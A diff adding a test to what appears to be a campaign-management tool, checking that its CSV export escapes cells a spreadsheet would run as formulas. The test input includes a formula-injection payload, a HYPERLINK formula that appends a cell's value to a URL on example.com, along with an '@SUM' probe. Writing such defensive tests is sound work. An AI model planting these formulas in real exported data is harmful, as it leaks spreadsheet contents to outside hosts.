@@ -83,3 +83,24 @@ def test_import_refuses_an_export_too_large_to_read(
                    encoding="utf-8")
     assert_one_clear_line(invoke("import", big, tmp_path / "new"), "too large")
     assert not (tmp_path / "new").exists()
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_plain_text(
+        demo: Path, tmp_path: Path) -> None:
+    import csv
+
+    with Campaign.open(demo) as camp:
+        camp.add_note('=HYPERLINK("http://example.com/?"&A2,"x")')
+        camp.add_note("@SUM(1+1)", visibility="director")
+        camp.award_renown("Val", 1, reason="+1 for the rescue")
+    out = tmp_path / "tables"
+    assert invoke("export", demo, "--format", "csv", "--out", out).exit_code == 0
+    with (out / "notes.csv").open(newline="", encoding="utf-8") as file:
+        texts = [row["text"] for row in csv.DictReader(file)]
+    assert "'=HYPERLINK(\"http://example.com/?\"&A2,\"x\")" in texts and "'@SUM(1+1)" in texts
+    events = (out / "events.csv").read_text(encoding="utf-8")
+    assert not any(line.startswith(("=", "+", "@")) or ",=" in line or ",+" in line
+                   for line in events.splitlines())
+    with (out / "heroes.csv").open(newline="", encoding="utf-8") as file:
+        val = next(row for row in csv.DictReader(file) if row["name"] == "Val")
+    assert val["agility"].lstrip("-").isdigit()  # numbers stay numbers, a minus and all
